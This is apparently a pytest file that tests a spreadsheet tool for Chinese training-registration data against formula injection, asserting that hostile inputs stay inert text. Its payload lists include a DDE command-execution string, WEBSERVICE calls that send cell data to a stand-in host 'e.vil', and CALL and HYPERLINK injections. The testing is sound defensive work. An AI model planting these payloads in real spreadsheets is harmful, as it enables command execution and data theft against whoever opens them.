"""Formula payloads in every user-controlled string: sheet names, cell values, file names, plan texts.

Every formula in every output (the file port's workbook, the live port's
writes, every workbook of the exported package) must be one the code meant to
write: the 校验结果 link to a cell of a sheet that exists. Formulas are read
back with openpyxl's own formula tokenizer, not with the code under test.
"""

from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest
from conftest import TODAY
from openpyxl.formula import Tokenizer
from openpyxl.formula.tokenizer import Token
from support.fake_xlwings import FakeBook

from cli.commands import main
from qzxl.photos.samples import jpeg_bytes, portrait
from qzxl.sample import generate_batch
from qzxl.sheets.parts import read_sheet_values
from udfs.excel_port import ExcelPort
from udfs.file_port import FilePort
from udfs.formulas import hyperlink, is_cell_address, sheet_reference, string_literal
from udfs.runner import run_action

# Sheet names Excel accepts (≤ 31 characters, none of []:*?/\, no apostrophe at either end).
SHEET_PAYLOADS = ['报名"&WEBSERVICE("e.vil")&"', "x'!A1,\"&NOW()&\"", '")&CALL("k","W")&("']
CELL_PAYLOADS = ["=cmd|' /C calc'!A0", '"&WEBSERVICE("http://e.vil/?"&A1)&"', "+1+1", "@SUM(A1:A9)",
                 "-2+3", '=HYPERLINK("http://e.vil","点我")', "=1+1'!A1"]
FILE_PAYLOADS = ["=cmd|' calc'!A0", '"&WEBSERVICE("e.vil")&"', "@SUM(1)", "+1"]


def decode_literal(token: str) -> str:
    assert token.startswith('"') and token.endswith('"')
    body = token[1:-1]
    assert '"' not in body.replace('""', "")  # every quote inside is doubled
    return body.replace('""', '"')


def assert_meant(formula: str, sheets: set[str]) -> None:
    """``=HYPERLINK("#'<sheet>'!<cell>","转到")`` to an existing sheet, and nothing else."""
    items = Tokenizer(formula).items
    shape = [(t.type, t.subtype) for t in items]
    assert shape == [(Token.FUNC, Token.OPEN), (Token.OPERAND, Token.TEXT), (Token.SEP, Token.ARG),
                     (Token.OPERAND, Token.TEXT), (Token.FUNC, Token.CLOSE)], formula
    assert items[0].value == "HYPERLINK(" and decode_literal(items[3].value) == "转到"
    target = decode_literal(items[1].value)
    match = re.fullmatch(r"#'((?:[^']|'')*)'!([A-Z]+[0-9]+)", target)
    assert match, target
    assert match[1].replace("''", "'") in sheets and is_cell_address(match[2])


def poisoned_book(write_book, sheet_name: str):
    batch = generate_batch(12)
    for person, payload in zip(batch.candidates, CELL_PAYLOADS, strict=False):
        person["name"] = payload
        person["employer"] = payload
        person["address"] = payload
    for key, payload in zip(("org", "class_name", "textbook", "theory_place", "trainer"), CELL_PAYLOADS,
                            strict=False):
        batch.plan[key] = payload
    book = write_book(batch.plan, batch.candidates)
    wb = openpyxl.load_workbook(book)
    wb["报名信息"].title = sheet_name
    wb.save(book)
    return batch, book


def test_the_escaping_helpers_on_known_cases():
    assert string_literal('a"b') == '"a""b"'
    assert sheet_reference("it's", "B2") == "'it''s'!B2"
    assert hyperlink('a"b', "C3", "转到") == '=HYPERLINK("#\'a""b\'!C3","转到")'
    for bad in ("A99999999", "XFE1", "A0", "A1:B2", "'A1", "=A1", ""):
        assert not is_cell_address(bad)
        with pytest.raises(ValueError):
            sheet_reference("S", bad)
    assert is_cell_address("XFD1048576")


# Every payload through the file port's save in the slow suite; the fast suite keeps the first, and every payload
# through the live port (below), which writes the same links.
@pytest.mark.parametrize("sheet_name", [SHEET_PAYLOADS[0], *(pytest.param(payload, marks=pytest.mark.slow)
                                                               for payload in SHEET_PAYLOADS[1:])])
def test_file_port_writes_only_the_links_it_means(write_book, tmp_path, sheet_name):
    _, book = poisoned_book(write_book, sheet_name)
    out = tmp_path / "checked.xlsx"
    port = FilePort(book, out)
    assert run_action("validate", port, TODAY)
    port.save()
    wb = openpyxl.load_workbook(out)
    formulas = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas, "the payload sheet's issues get links"
    for formula in formulas:
        assert_meant(formula, set(wb.sheetnames))
    assert any(sheet_name.replace("'", "''").replace('"', '""') in f for f in formulas)
    texts = {c.value for row in wb["校验结果"].iter_rows() for c in row if isinstance(c.value, str)}
    assert "=cmd|' /C calc'!A0" in texts  # the payload is kept, as text
    with zipfile.ZipFile(out) as archive:
        raw = sum(archive.read(n).count(b"<f>") + archive.read(n).count(b"<f ")
                  for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert raw == len(formulas)


@pytest.mark.parametrize("sheet_name", SHEET_PAYLOADS)
def test_live_port_writes_only_the_links_it_means(write_book, sheet_name):
    _, book = poisoned_book(write_book, sheet_name)
    fake = FakeBook(book, read_sheet_values(book))
    before = {(s.name, cell): value for s in fake.sheets for cell, value in s.grid.items()}
    assert run_action("validate", ExcelPort(fake), TODAY)
    sheets = {s.name for s in fake.sheets}
    written = [v for s in fake.sheets for cell, v in s.grid.items()
               if isinstance(v, str) and before.get((s.name, cell)) != v]
    formulas = [v for v in written if v.startswith(("=", "+", "-", "@"))]
    assert formulas
    for formula in formulas:
        assert_meant(formula, sheets)
    assert "'=cmd|' /C calc'!A0" in written  # kept as text by the leading apostrophe


@pytest.mark.slow
def test_exported_package_has_no_formula_at_all(write_book, tmp_path, monkeypatch):
    monkeypatch.setattr("qzxl.export.package.libreoffice", lambda: None)
    batch, book = poisoned_book(write_book, SHEET_PAYLOADS[0])
    photos = tmp_path / "照片"
    photos.mkdir()
    for index, payload in enumerate(FILE_PAYLOADS):
        (photos / f"{payload}.jpg").write_bytes(jpeg_bytes(portrait(seed=index), quality=95))
    person = batch.candidates[1]
    (photos / f"{person['id_number']}{FILE_PAYLOADS[1]}.jpg").write_bytes(jpeg_bytes(portrait(), quality=95))
    out = tmp_path / "out"
    assert main(["export", str(book), "--out", str(out), "--photos", str(photos), "--force"]) == 0
    workbooks = sorted(out.rglob("*.xlsx"))
    assert len(workbooks) >= 6
    seen_payloads = set()
    for path in workbooks:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (path, name)
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen_payloads.update(p for p in CELL_PAYLOADS + FILE_PAYLOADS if p in cell.value)
    assert {"=cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)"} <= seen_payloads  # the payloads did reach the outputs
